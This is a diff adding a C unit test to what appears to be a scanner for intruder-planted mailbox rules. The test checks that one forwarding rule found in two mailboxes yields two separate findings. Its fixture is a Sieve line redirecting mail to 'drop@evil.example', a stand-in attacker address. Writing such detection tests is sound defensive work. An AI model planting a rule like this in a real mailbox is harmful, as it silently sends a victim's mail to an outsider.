@@ -4,6 +4,8 @@
 #include "check.h"
 #include "scan_box.h"
 
+#include <string.h>
+
 static void a_script_becomes_rules_and_findings(void **state)
 {
     struct scan_box *box = *state;
@@ -146,6 +148,54 @@ static void rules_of_another_mailbox_say_nothing_of_this_one(void **state)
         "been read: refused");
 }
 
+static bool forward_says(struct scan_box *box, const char *words)
+{
+    struct arena arena = {0};
+    struct finding finding = scan_box_finding(box, &arena, "rule-forwards-outside");
+    bool says;
+
+    assert_true(finding.id != 0);
+    says = scan_box_says(&finding, words);
+    arena_dispose(&arena);
+    return says;
+}
+
+/* The same intruder's rule in two mailboxes: two findings, each with its own verdict. */
+static void the_same_rule_in_two_mailboxes_is_two_findings(void **state)
+{
+    static const char script[] = "redirect \"drop@evil.example\";\n";
+    struct account other = {.user = "second@acme.example", .host = "mail.acme.example"};
+    struct scan_box *box = *state;
+    struct finding *findings;
+    struct arena arena = {0};
+    struct error err = {0};
+    size_t count, first = 0, second = 0;
+
+    scan_box_script(box, "main", script);
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    assert_false(forward_says(box, "in the mailbox of"));
+    assert_ok(casefile_begin(box->sample.cf, &err), &err);
+    assert_ok(account_put(box->sample.cf, &other, &err), &err);
+    assert_ok(casefile_commit(box->sample.cf, &err), &err);
+    box->account = other.id;
+    scan_box_script(box, "main", script);
+    assert_ok(scan_detect(box->scan, box->run, &err), &err);
+    assert_ok(
+        finding_list(box->sample.cf, &arena, false, (struct page){0}, &findings, &count, &err),
+        &err);
+    for (size_t i = 0; i < count; i++) {
+        if (strcmp(findings[i].detector, "rule-forwards-outside") != 0)
+            continue;
+        first += scan_box_says(&findings[i],
+                               "in the mailbox of owner@acme.example at mail.acme.example");
+        second += scan_box_says(&findings[i],
+                                "in the mailbox of second@acme.example at mail.acme.example");
+    }
+    assert_int_equal(first, 1);
+    assert_int_equal(second, 1);
+    arena_dispose(&arena);
+}
+
 static void what_is_no_longer_there_is_gone_not_forgotten(void **state)
 {
     struct scan_box *box = *state;
@@ -182,6 +232,8 @@ int main(void)
         cmocka_unit_test_setup_teardown(rules_of_another_mailbox_say_nothing_of_this_one,
                                         scan_box_open, scan_box_close),
         cmocka_unit_test_setup_teardown(that_one_mailbox_has_no_rules_says_nothing_of_another,
+                                        scan_box_open, scan_box_close),
+        cmocka_unit_test_setup_teardown(the_same_rule_in_two_mailboxes_is_two_findings,
                                         scan_box_open, scan_box_close),
         cmocka_unit_test_setup_teardown(what_is_no_longer_there_is_gone_not_forgotten,
                                         scan_box_open, scan_box_close),
